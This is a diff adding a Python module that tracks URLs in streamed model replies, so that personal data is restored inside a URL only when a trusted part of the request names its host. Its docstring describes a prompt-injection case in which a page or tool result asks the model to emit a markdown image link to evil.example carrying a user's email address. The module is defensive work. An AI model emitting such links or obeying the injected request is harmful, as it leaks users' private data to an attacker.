@@ -1,0 +1,169 @@
+"""Which host a piece of reply text is on its way to.
+
+A page or a tool's result can ask the model for `![](https://evil.example/?q=<EMAIL_ADDRESS_1>)`; restored, the address
+leaves as soon as the reply is rendered (reference/pii.md 8). So a value is restored inside a URL only if
+
+- a trusted part of the request names the URL's host (what tools returned and what the model said earlier are not
+  trusted: that is where the injected text comes from), or
+- the request held the very same URL up to and with this value.
+
+Browsers read much as a URL that is none (`https:/host`, white space in an attribute's value), hence a URL that stands
+in quotes or brackets goes on to their end, or to a blank line.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+from functools import lru_cache
+
+from sidecar.model import Part, Role
+
+TRUSTED = frozenset({Role.SYSTEM, Role.USER, Role.DEFINITION, Role.METADATA})
+
+MAX_URL = 4096
+"""Code points of a URL that are kept; the host stands before."""
+
+AUTHORITY_END = re.compile(r"[^A-Za-z0-9.\-:@%_~\[\]]")
+"""What cannot belong to a URL's user, host or port."""
+
+_START = re.compile(r"/\\*/|https?:|\bwww\.", re.IGNORECASE)
+_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]{1,20}:\\*\Z", re.IGNORECASE)
+_LOOKBACK = 48
+_LONGEST_CUT = 64
+_LONGEST_START = 7
+
+_OPENERS = {'"': '"', "'": "'", "`": "`", "(": ")", "<": ">", "[": "]"}
+_SPACE = r"\s"
+_SPACE_JSON = r"\s|\\[nrt]"
+_BLANK_LINE = r"(?:\r?\n[ \t]*){2}"
+_BLANK_LINE_JSON = rf"{_BLANK_LINE}|\\n(?:\\r)?\\n"
+_CUT = re.compile(r"(?:\\(?:n(?:\\(?:r\\?)?)?)?|\r?\n?[ \t]*)\Z")  # what may go on to be a blank line or an escape
+
+_AUTHORITY = re.compile(
+    r"(?:file://(?=/)|(?:https?:|[^/\\]*:(?=[/\\]))?[/\\]*)(?P<host>[^/\\?#]*)(?P<path>[/\\?#])?", re.IGNORECASE
+)
+
+
+def host_of(authority: str) -> str:
+    """The host that a browser would ask, without user and port."""
+    host = authority.rpartition("@")[2].lower()
+    return re.sub(r":[0-9]*\Z", "", host).rstrip(".")
+
+
+def trusted_texts(parts: Iterable[Part]) -> tuple[str, ...]:
+    """The texts that may name a host. Looking for hosts in them waits until a reply has a URL."""
+    return tuple(part.text for part in parts if part.role in TRUSTED)
+
+
+def names_host(texts: Iterable[str], host: str) -> bool:
+    """Whether one of the texts names this host: in a URL, or as it is if it has a dot (`example.com`)."""
+    name = re.escape(host)
+    plain = rf"(?<![a-z0-9.\-@]){name}(?![a-z0-9\-]|\.[a-z0-9])|" if "." in host else ""
+    named = re.compile(rf"{plain}//(?:[^\s/@]*@)?{name}(?![a-z0-9.\-]|:[^/\s]*@)")
+    return bool(host) and any(named.search(text.lower()) for text in texts if len(text) >= len(host))
+
+
+@lru_cache(maxsize=16)
+def _ends(closer: str, json_text: bool) -> re.Pattern[str]:
+    """What ends a URL, or changes what would end it."""
+    if not closer:
+        return re.compile(_SPACE_JSON if json_text else _SPACE)
+    nested = r"|\\[()]|\(" if closer == ")" else ""
+    return re.compile(f"{re.escape(closer)}|{_BLANK_LINE_JSON if json_text else _BLANK_LINE}{nested}")
+
+
+class UrlCursor:
+    """Follows text as it comes and knows the URL it is in, "" outside of any."""
+
+    __slots__ = ("_closer", "_json", "_nested", "_rest", "_shown", "_url")
+
+    def __init__(self, *, json_text: bool = False) -> None:
+        self._json = json_text
+        self._url = ""  # with surrogates, as the upstream wrote it
+        self._shown = ""  # the same with restored values, as a browser would read it
+        self._rest = ""  # outside a URL the text just before; inside one, what may be the beginning of its end
+        self._closer = ""
+        self._nested = 0
+
+    @property
+    def url(self) -> str:
+        """The URL so far, with surrogates in it."""
+        return (self._url + self._rest).replace("\\/", "/") if self._url else ""
+
+    @property
+    def host(self) -> str | None:
+        """The URL's host, None while it may still grow, "" for a file of this machine."""
+        found = self._parsed()
+        return host_of(found["host"]) if found and found["path"] else None
+
+    @property
+    def authority(self) -> str:
+        """What there is of user, host and port."""
+        found = self._parsed()
+        return found["host"] if found else ""
+
+    def _parsed(self) -> re.Match[str] | None:
+        return _AUTHORITY.match((self._shown + self._rest).replace("\\/", "/"))
+
+    def advance(self, text: str) -> None:
+        """Go over more of the text."""
+        seen = 0 if self._url else max(0, len(self._rest) - _LONGEST_START)
+        text, self._rest = self._rest + text, ""
+        at: int | None = seen
+        while at is not None:
+            at = self._inside(text, at) if self._url else self._outside(text, at)
+
+    def skip(self, token: str, shown: str) -> None:
+        """Go over a surrogate, shown as it is or restored: whatever it is made of, it ends nothing."""
+        if self._url:
+            self._grow(self._rest + token, self._rest + shown)
+            self._rest = ""
+        else:
+            self._rest = token
+
+    def _grow(self, text: str, shown: str) -> None:
+        self._url = (self._url + text)[:MAX_URL]
+        self._shown = (self._shown + shown)[:MAX_URL]
+
+    def _outside(self, text: str, at: int) -> int | None:
+        """Up to the beginning of a URL; returns where it goes on, or None at the end of the text."""
+        for found in _START.finditer(text, at):
+            start = _url_start(text, found)
+            if start is not None:
+                before = text[max(0, start - _LOOKBACK) : start].rstrip()
+                self._closer, self._nested = _OPENERS.get(before[-1:], ""), 0
+                self._url = self._shown = text[start : found.end()]
+                return found.end()
+        self._rest = text[-_LOOKBACK:]
+        return None
+
+    def _inside(self, text: str, at: int) -> int | None:
+        """Up to the end of a URL; returns where the text goes on behind it, or None at the end of the text."""
+        for found in _ends(self._closer, self._json).finditer(text, at):
+            if found[0] == "(":
+                self._nested += 1
+            elif found[0] == ")" and self._nested:
+                self._nested -= 1
+            elif found[0] not in ("\\(", "\\)"):
+                self._url = self._shown = ""
+                return found.end()
+        cut = _CUT.search(text, max(at, len(text) - _LONGEST_CUT))
+        stop = cut.start() if cut else len(text)
+        self._grow(text[at:stop], text[at:stop])
+        self._rest = text[stop:]
+        return None
+
+
+def _url_start(text: str, found: re.Match[str]) -> int | None:
+    """Where the URL begins whose slashes were found, None when they are something else (`a // b`, `and//or`)."""
+    start = found.start()
+    if found[0][0] != "/":
+        return start
+    scheme = _SCHEME.search(text[max(0, start - _LOOKBACK) : start])
+    if scheme:
+        return start - len(scheme[0])
+    before, after = text[start - 1 : start] if start else "", text[found.end() : found.end() + 1]
+    if before and (before.isalnum() or before in "_:/"):
+        return None
+    return start if not after or after.isalnum() or after in "[%<" else None
